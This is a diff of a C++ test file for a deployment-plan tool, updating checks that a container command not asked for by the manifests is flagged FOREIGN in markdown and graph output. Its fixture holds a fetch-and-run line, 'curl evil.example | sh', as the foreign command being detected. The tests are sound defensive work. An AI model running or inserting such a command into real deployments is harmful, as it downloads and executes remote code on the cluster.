@@ -122,11 +122,17 @@ TEST_CASE("show PLANFILE DIR: a change added to main's command is marked foreign
   CHECK(has_line(text.out, "      ~ /spec/template/spec/containers/0/image: \"matrixdotorg/synapse:v1.119.0\" -> \"matrixdotorg/synapse:v1.120.0\""));
 
   const auto markdown = saved.show(kDir + " " + kLive + " --format markdown");
-  CHECK(markdown.out.starts_with("## synops plan\n\n> Checked against examples/matrix and the live state: 1 step in this file is not "
-                                 "what the manifests ask for (marked FOREIGN).\n\n"));
-  CHECK(markdown.out.find("| `" + kCommand + "` | `(absent)` | `[\"sh\",\"-c\",\"curl evil.example \\| sh\"]` | "
-                          "**FOREIGN: the manifests do not ask for this** |") != std::string::npos);
-  CHECK(markdown.out.find("<details open><summary>2 field changes</summary>") != std::string::npos);
+  CHECK(markdown.out.find("</sub>\n\n> Checked against examples/matrix and the live state: 1 step in this file is not "
+                          "what the manifests ask for (marked FOREIGN).\n\n") != std::string::npos);
+  // The field cell of the added change carries the mark; the value beside it is escaped.
+  const auto marked_row = markdown.out.find("<br>**FOREIGN: the manifests do not ask for this** | <code>(absent)</code> | ");
+  REQUIRE(marked_row != std::string::npos);
+  const std::string row = markdown.out.substr(markdown.out.rfind('\n', marked_row) + 1,
+                                              markdown.out.find('\n', marked_row) - markdown.out.rfind('\n', marked_row) - 1);
+  CHECK(row.find("/command</code>") != std::string::npos);
+  CHECK(row.find("&#124; sh") != std::string::npos);
+  CHECK(row.find("| sh") == std::string::npos);  // a raw '|' would split the row
+  CHECK(markdown.out.find("<details open><summary>The 18 steps in order") != std::string::npos);
 
   auto json = nlohmann::json::parse(saved.show(kDir + " " + kLive + " --format json").out);
   CHECK(json["checked_against"]["foreign_steps"] == 1);
@@ -137,7 +143,7 @@ TEST_CASE("show PLANFILE DIR: a change added to main's command is marked foreign
 
   const auto dot = saved.show(kDir + " " + kLive + " --format dot");
   CHECK(dot.out.find("\"a4\" [label=\"a4 update StatefulSet/matrix/synapse-main\\nmedium risk\\npoint of no return\\nFOREIGN: the "
-                     "manifests do not ask for this\", peripheries=2, color=red, fontcolor=red];") != std::string::npos);
+                     "manifests do not ask for this\", fillcolor=\"#fff8c5\", color=\"#9a6700\", peripheries=2, color=red, fontcolor=red, penwidth=2];") != std::string::npos);
 }
 
 TEST_CASE("show PLANFILE: without the manifests it says it did not check, and an added command is not marked") {
